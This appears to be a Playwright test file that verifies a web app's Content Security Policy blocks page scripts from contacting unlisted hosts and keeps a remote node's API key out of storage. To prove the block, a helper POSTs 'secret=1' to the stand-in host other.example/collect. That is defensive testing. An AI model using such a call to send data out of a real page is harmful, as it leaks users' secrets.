/**
 * Where the page connects (#28): the page puts its own connect-src in force as it starts, naming
 * the app and the chosen node (and the opt-in lookup host while it is on, e2e/connect-enforce), so a script running in the
 * page cannot send data to another host, while the chosen node answers. Choosing a node the
 * policy does not name reloads the page with a policy that names it.
 *
 * "Another host" is stood in for by page.route: a request that reached the network layer would
 * be answered (the route counts it), so a refusal is the policy's, not a missing DNS name.
 */
import type { Page } from '@playwright/test'
import { expect, forward, test as base } from './fixtures'

const OTHER = 'https://other.example'
const NODE = 'https://node.example'

const test = base.extend({
  // The browser reports each refused request as a console error: exactly those to OTHER are expected.
  consoleErrors: async ({ page }, use) => {
    const errors: string[] = []
    page.on('console', (m) => {
      if (m.type() === 'error' && !(m.text().includes(OTHER) && m.text().includes('Content Security Policy'))) errors.push(m.text())
    })
    page.on('pageerror', (e) => errors.push(`pageerror: ${e.message}`))
    await use(errors)
    expect(errors, 'console errors').toEqual([])
  },
  // The stand-in remote node is a chosen node too.
  requests: async ({ page, baseURL, devnet }, use) => {
    const urls: string[] = []
    page.on('request', (r) => urls.push(r.url()))
    await use(urls)
    const allowed = [new URL(baseURL!).origin, new URL(devnet.rpcUrl).origin, NODE]
    expect(urls.filter((u) => !u.startsWith('data:') && !u.startsWith('blob:') && !allowed.includes(new URL(u).origin))).toEqual([])
  },
})

/** Answers OTHER (with CORS) if a request ever reaches it, counting; returns the count. */
async function standInOther(page: Page): Promise<() => number> {
  let hits = 0
  await page.route(`${OTHER}/**`, (route) => {
    hits++
    return route.fulfill({ status: 200, headers: { 'access-control-allow-origin': '*' }, body: 'leaked' })
  })
  return () => hits
}

/** A fetch from the page's own context, and the CSP violation it raised (if any). */
async function fetchFromPage(page: Page, url: string): Promise<{ outcome: string; violated: string }> {
  return page.evaluate(async (u) => {
    let violated = ''
    const on = (e: SecurityPolicyViolationEvent) => (violated = `${e.effectiveDirective} ${e.blockedURI}`)
    document.addEventListener('securitypolicyviolation', on)
    const outcome = await fetch(u, { method: 'POST', body: 'secret=1' }).then(
      (r) => r.text(),
      (e: Error) => `refused: ${e.message}`,
    )
    await new Promise((r) => setTimeout(r, 50)) // the violation event is queued as a task
    document.removeEventListener('securitypolicyviolation', on)
    return { outcome, violated }
  }, url)
}

const policyInPage = (page: Page) => page.locator('meta[data-workbench="connect-policy"]').getAttribute('content')

test('on the devnet, a fetch from the page to another host is refused by the page\'s policy while the node answers', async ({ page, devnet }) => {
  const hits = await standInOther(page)
  await page.goto('/account?address=0x70997970C51812dc3A010C7d01b50e0d17dc79C8&block=0')
  const policy = await policyInPage(page)
  // the app, the devnet by its exact origin (HTTP and WebSocket), nothing else: no other port of this machine (#41)
  const devnetOrigin = new URL(devnet.rpcUrl).origin
  expect(policy).toBe(`connect-src 'self' ${devnetOrigin} ${devnetOrigin.replace('http:', 'ws:')}`)
  const r = await fetchFromPage(page, `${OTHER}/collect`)
  expect(r.outcome).toMatch(/^refused: /)
  expect(r.violated).toBe(`connect-src ${OTHER}/collect`)
  expect(hits()).toBe(0)
  // the chosen node still answers, through the app
  await page.getByRole('button', { name: 'Look up', exact: true }).click()
  await expect(page.getByRole('status', { name: 'Balance (ether)', exact: true })).toHaveText('10000')
  expect(new URL(devnet.rpcUrl).hostname).toBe('127.0.0.1')
})

test('choosing a remote node reloads the page with a policy that names it; its API key crosses the reload and is stored nowhere', async ({ page, devnet }) => {
  const KEY = 'Zq7SecretApiKey0123456789'
  const asked: string[] = []
  await page.route(`${NODE}/**`, async (route) => {
    asked.push(route.request().url())
    // The reload cancels the old page's requests still in flight: their response is then
    // disposed before it can be handed back, which is the reload working, not a failure.
    return forward(route, { url: devnet.rpcUrl })
  })
  const hits = await standInOther(page)
  await page.goto('/')
  expect(await policyInPage(page)).not.toContain(NODE)
  await page.locator('.conn-badge').click()
  const dialog = page.getByRole('dialog', { name: 'Connection' })
  await dialog.getByRole('radio', { name: 'A JSON-RPC URL' }).check()
  await dialog.getByLabel('Endpoint URL').fill(`${NODE}/rpc?apikey=${KEY}`)
  await dialog.getByRole('button', { name: 'Connect' }).click()
  await expect(dialog.getByRole('alert').filter({ hasText: 'Before you use this node' })).toBeVisible()
  const reloaded = page.waitForEvent('load')
  await dialog.getByRole('button', { name: 'Connect' }).click()
  await reloaded
  // the new page's policy names the node (its origin only: no key, no path)
  const policy = await policyInPage(page)
  expect(policy?.split(' ')).toContain(NODE)
  expect(policy).not.toContain(KEY)
  await expect(page.locator('.conn-badge')).toContainText('node.example')
  await expect(page.locator('.conn-badge')).not.toContainText(KEY)
  await page.locator('.conn-badge').click()
  await expect(dialog.getByText(`(chain id ${devnet.chainId})`)).toBeVisible()
  expect(asked.length).toBeGreaterThan(0)
  expect(asked.every((u) => u === `${NODE}/rpc?apikey=${KEY}`)).toBe(true)
  // another host is still refused
  const r = await fetchFromPage(page, `${OTHER}/collect`)
  expect(r.violated).toBe(`connect-src ${OTHER}/collect`)
  expect(hits()).toBe(0)
  // the key is in no storage after the reload
  const stored = await page.evaluate(() => JSON.stringify({ ...localStorage }) + JSON.stringify({ ...sessionStorage }))
  expect(stored).not.toContain(KEY)
})
